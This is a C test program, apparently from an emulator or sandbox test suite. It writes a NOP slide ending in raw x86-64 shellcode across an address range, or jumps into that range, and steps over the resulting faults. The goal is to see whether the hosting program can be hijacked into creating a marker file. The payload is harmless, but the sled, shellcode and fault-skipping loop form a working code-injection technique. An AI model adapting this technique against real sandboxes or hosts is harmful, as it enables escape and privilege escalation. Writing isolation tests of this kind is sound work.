/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Tries to take over who repeats its instructions: stores machine code to every page of an address range where that
 * program might live, then branches. Natively each store faults, and the handler steps over it. Where a store succeeds,
 * the branches that follow may run the code, which makes a file. The owner of the file shows whose rights were gained.
 * Usage:
 * takeover SECONDS FILE FROM-HEX TO-HEX [jump]     jump: branch into the range instead of storing */
#include "hostile.h"

#include <signal.h>
#include <sys/syscall.h>
#include <ucontext.h>

static char file[256];
static volatile long faults;

/* Stores are `mov %al, (%rdi)`, two bytes; calls are `call *%rdi`, two bytes with the return address on the stack. */
static void step_over(int number, siginfo_t *signal, void *argument)
{
    greg_t *g = ((ucontext_t *)argument)->uc_mcontext.gregs;
    (void)number;
    faults++;
    if (g[REG_RIP] == (greg_t)(uintptr_t)signal->si_addr) { /* at the place that was called: return */
        g[REG_RIP] = *(greg_t *)g[REG_RSP];
        g[REG_RSP] += 8;
    } else {
        g[REG_RIP] += 2;
    }
}

/* open(file, O_CREAT | O_WRONLY, 0600), for ever. */
static size_t payload(uint8_t code[64])
{
    static const uint8_t head[] = {0x48, 0xbf},
                         rest[] = {0xbe, 0x41,     0,    0,   0, /* mov esi, O_CREAT | O_WRONLY */
                                   0xba, 0x80,     1,    0,   0, /* mov edx, 0600 */
                                   0xb8, SYS_open, 0,    0,   0, /* mov eax */
                                   0x0f, 0x05,     0xeb, 0xfe};
    uint64_t name = (uint64_t)(uintptr_t)file;
    memcpy(code, head, 2);
    memcpy(code + 2, &name, 8);
    memcpy(code + 10, rest, sizeof rest);
    return 10 + sizeof rest;
}

int main(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    uint64_t from = strtoull(argv[3], NULL, 16), to = strtoull(argv[4], NULL, 16);
    snprintf(file, sizeof file, "%s", argv[2]);
    static uint8_t stack[65536];
    stack_t own = {.ss_sp = stack, .ss_size = sizeof stack};
    struct sigaction action = {.sa_sigaction = step_over, .sa_flags = SA_SIGINFO | SA_NODEFER | SA_ONSTACK};
    sigaltstack(&own, NULL);
    sigaction(SIGSEGV, &action, NULL);
    sigaction(SIGBUS, &action, NULL);
    uint8_t code[64];
    size_t size = payload(code);
    uint64_t at = from;
    for (double until = seconds_now() + strtod(argv[1], NULL); seconds_now() < until;) {
        burn(0.002);
        if (argc > 5) {
            __asm__ volatile("call *%%rdi"
                             :
                             : "D"(at)
                             : "rax", "rcx", "rdx", "rsi", "r8", "r9", "r10", "r11", "memory");
        } else {
            for (uint64_t i = 0; i < 4096; i++) { /* a slide of nops with the code at its end */
                uint8_t byte = i < 4096 - size ? 0x90 : code[i - (4096 - size)];
                __asm__ volatile("mov %%al, (%%rdi)" : : "a"(byte), "D"(at + i) : "memory");
            }
        }
        at = at + 4096 < to ? at + 4096 : from;
    }
    printf("%ld faults of its own\n", faults);
    return unharmed();
}
